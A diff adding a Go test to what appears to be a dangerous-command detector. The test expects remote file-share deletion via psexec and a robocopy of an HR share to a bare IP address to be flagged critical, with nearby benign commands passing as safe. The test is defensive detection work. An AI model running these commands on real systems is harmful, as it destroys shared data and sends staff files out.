@@ -697,3 +697,19 @@ func TestRound51PointAndPrint(t *testing.T) {
 		`reg query "HKLM\Software\Policies\Microsoft\Windows NT\Printers\PointAndPrint"`,
 	})
 }
+
+// A file server's share removed on another machine, or copied to a
+// machine known only by its address; a share this machine made for the
+// project may be removed here.
+func TestRound51RemoteShares(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, winCorpusContextFor("cmd"), []dangerCase{
+		{`psexec \\FS01 net share Finance /delete /y`, CategoryFileDelete, "file-share-destroyed", LevelCritical},
+		{`robocopy \\fs01\hr$ \\198.51.100.40\upload /E /Z`, "", "win-exfil-userdata", LevelCritical},
+	})
+	checkSafe(t, d, winCorpusContextFor("cmd"), []string{
+		`net share project /delete`,
+		`psexec \\FS01 net share`,
+		`robocopy \\fs01\hr$ \\fs02\hr$ /E /Z`,
+	})
+}
